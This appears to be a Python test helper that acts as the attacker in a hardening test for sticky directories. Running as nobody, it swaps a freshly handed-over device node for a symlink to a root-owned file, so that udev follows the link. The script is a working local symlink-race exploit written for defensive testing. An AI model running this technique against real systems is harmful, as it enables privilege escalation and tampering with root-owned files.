#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
# The attacker of harden-sticky.bats, as nobody (it drops to nobody:nogroup
# with no supplementary groups before anything else): watches a
# sticky folder for a device node that user owns (one udev has just given
# away) and swaps it at once for a symlink to a file of root's, hoping that
# udev then changes the node by name and so follows the symlink.
#   node-swap.py DIR TARGET READY   -> prints the name it swapped
# READY is made once the watch runs; exits 1 when nothing came in 30 s.
import os
import pwd
import stat
import sys
import time


def swap(d, target):
    uid = os.getuid()
    for e in os.scandir(d):
        try:
            st = e.stat(follow_symlinks=False)
        except FileNotFoundError:
            continue
        if st.st_uid != uid or not (stat.S_ISCHR(st.st_mode) or stat.S_ISBLK(st.st_mode)):
            continue
        # ours: in a sticky folder the owner of an entry may move it
        os.rename(e.path, os.path.join(d, ".swapped-" + e.name))
        os.symlink(target, e.path)
        return e.name
    return None


def main():
    pw = pwd.getpwnam("nobody")
    os.setgroups([])
    os.setgid(pw.pw_gid)
    os.setuid(pw.pw_uid)
    d, target, ready = sys.argv[1:4]
    open(ready, "w").close()
    end = time.monotonic() + 30
    while time.monotonic() < end:
        name = swap(d, target)
        if name:
            print(name, flush=True)
            return 0
        time.sleep(0.0005)
    return 1


sys.exit(main())
